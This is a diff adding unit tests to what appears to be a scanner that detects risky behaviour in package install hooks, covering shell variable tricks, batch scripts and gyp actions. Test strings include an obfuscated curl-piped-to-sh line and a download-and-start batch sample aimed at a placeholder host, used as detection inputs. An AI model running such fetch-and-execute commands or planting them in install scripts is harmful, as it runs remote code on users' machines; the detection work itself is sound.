@@ -2,6 +2,7 @@
 #include "test.h"
 
 #include "scanner/content/script.h"
+#include "scanner/rule/hook_variables.h"
 
 static bool shows(enum script_kind kind, const char *text, enum behaviour b, uint32_t flags)
 {
@@ -46,6 +47,50 @@ static void test_others(void **state)
 	assert_false(shows(SCRIPT_PYTHON, "import os\nprint(os.getcwd())\n", BEHAVE_SEND, 0));
 }
 
+static void test_variables(void **state)
+{
+	struct arena *a = arena_new(1 << 20);
+	struct hook_variables v = {.count = 0};
+	char line[HOOK_VARIABLE_MAX + 16];
+
+	(void)state;
+	assert_true(shows(SCRIPT_SHELL, "a=cu\nb=rl\n$a${b} -s https://x.example.invalid/a | sh\n", BEHAVE_EXECUTE, ACT_FETCHED_ARG));
+	assert_true(shows(SCRIPT_BATCH, "curl https://x.example.invalid/a -o a.bat\nstart a.bat\n", BEHAVE_EXECUTE, ACT_FETCHED_ARG));
+	assert_false(shows(SCRIPT_BATCH, "curl https://x.example.invalid/a -o a.bat\nstart b.bat\n", BEHAVE_EXECUTE, ACT_FETCHED_ARG));
+	assert_true(shows(SCRIPT_PYTHON, "import subprocess\nsubprocess.run(['npm', 'publish'])\n", BEHAVE_PUBLISH, 0));
+	/* as many variables as are remembered, and one more */
+	for (int i = 0; i <= HOOK_VARIABLES_MAX; i++) {
+		snprintf(line, sizeof line, "v%d=x", i);
+		hook_variables_put(&v, a, arena_text(a, text_of(line)));
+	}
+	assert_int_equal(v.count, HOOK_VARIABLES_MAX);
+	assert_true(text_eq(hook_variables_put(&v, a, T("echo $v0 ${v31}")), T("echo x x")));
+	assert_true(text_eq(hook_variables_put(&v, a, T("echo $v32 $")), T("echo $v32 $")));
+	/* values as long as are kept, and one byte more */
+	for (size_t n = HOOK_VARIABLE_MAX; n <= HOOK_VARIABLE_MAX + 1; n++) {
+		v = (struct hook_variables){.count = 0};
+		memset(line, 'y', sizeof line);
+		memcpy(line, "q=", 2);
+		hook_variables_put(&v, a, text_n(line, n + 2));
+		assert_int_equal(v.count, n == HOOK_VARIABLE_MAX);
+	}
+	arena_free(a);
+}
+
+static void test_gyp_action(void **state)
+{
+	struct arena *a = arena_new(1 << 20);
+	struct text rest = T("{'actions':[{'action_name':'x','action': ['sh', '-c', 'a b'],},{\"action\":[\"node\",\"y.js\"]}]}"), c;
+
+	(void)state;
+	assert_true(script_gyp_action(&rest, a, &c));
+	assert_true(text_eq(c, T("\"sh\" \"-c\" \"a b\"")));
+	assert_true(script_gyp_action(&rest, a, &c));
+	assert_true(text_eq(c, T("\"node\" \"y.js\"")));
+	assert_false(script_gyp_action(&rest, a, &c));
+	arena_free(a);
+}
+
 static void test_gyp(void **state)
 {
 	struct text t = T("'<!(node -p \"require(\\'a\\')\")', '<!@(sh x.sh)', '<!', '<!(open");
@@ -67,6 +112,8 @@ int main(void)
 		cmocka_unit_test(test_shell),
 		cmocka_unit_test(test_others),
 		cmocka_unit_test(test_gyp),
+		cmocka_unit_test(test_variables),
+		cmocka_unit_test(test_gyp_action),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
